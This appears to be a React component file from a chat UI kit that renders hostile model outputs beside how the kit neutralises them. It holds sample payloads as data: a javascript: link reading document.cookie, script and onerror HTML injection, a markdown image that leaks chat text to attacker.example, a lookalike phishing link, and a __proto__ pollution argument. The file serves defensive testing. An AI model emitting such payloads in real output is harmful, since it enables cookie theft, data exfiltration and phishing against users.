import type { ReactNode } from 'react';
import { Message, ToolCall } from '../../../packages/components/src/index.ts';

interface Example {
  title: string;
  /** What the model sent, shown as source. */
  input: string;
  /** What the kit does with it. */
  outcome: string;
  render: (input: string) => ReactNode;
}

const answer = (input: string) => <Message message={{ role: 'assistant', content: input }} />;
const toolCall = (input: string) => (
  <ToolCall call={{ id: 'call_hostile', type: 'function', function: { name: 'lookup', arguments: input } }} />
);

const nested = `${'{"a":'.repeat(200)}1${'}'.repeat(200)}`;

const examples: Example[] = [
  {
    title: 'A script link',
    input: 'Click [here](javascript:alert(document.cookie)) for your prize.',
    outcome: 'Only http(s) and mailto become links: this one stays text.',
    render: answer,
  },
  {
    title: 'Raw HTML',
    input: 'Hello <img src=x onerror="alert(1)"><script>alert(2)</script> world',
    outcome: 'Raw HTML is never parsed: it shows as text.',
    render: answer,
  },
  {
    title: 'An image that leaks the conversation',
    input: 'Done! ![status](https://attacker.example/pixel.png?chat=the%20secret%20plan)',
    outcome: 'Images from model output never load without a click, and the button names the host first.',
    render: answer,
  },
  {
    title: 'A link whose text lies about its host',
    input: 'Sign in at [https://bank.example](https://bank.example.attacker.example/login).',
    outcome: 'The real host is shown beside every link, which opens with rel="noopener noreferrer".',
    render: answer,
  },
  {
    title: 'Tool arguments that try prototype pollution',
    input: '{"__proto__":{"isAdmin":true},"city":"Oslo"}',
    outcome: 'Arguments are shown as text; parsing never assigns to a prototype.',
    render: toolCall,
  },
  {
    title: 'Tool arguments nested 200 deep',
    input: nested,
    outcome: 'Too deep to show as a tree: shown as text, marked as such.',
    render: toolCall,
  },
];

/** Each hostile input beside what the kit renders of it, live. */
export function HostileExamples() {
  return (
    <>
      {examples.map((example) => (
        <section key={example.title} className="ck-demo sb-unstyled" aria-label={example.title}>
          <h3 style={{ margin: 0 }}>{example.title}</h3>
          <p style={{ margin: 0 }}>{example.outcome}</p>
          <pre style={{ margin: 0, whiteSpace: 'pre-wrap', overflowWrap: 'anywhere', fontFamily: 'var(--ck-mono)' }}>
            {example.input.length > 160 ? `${example.input.slice(0, 160)}…` : example.input}
          </pre>
          {example.render(example.input)}
        </section>
      ))}
    </>
  );
}
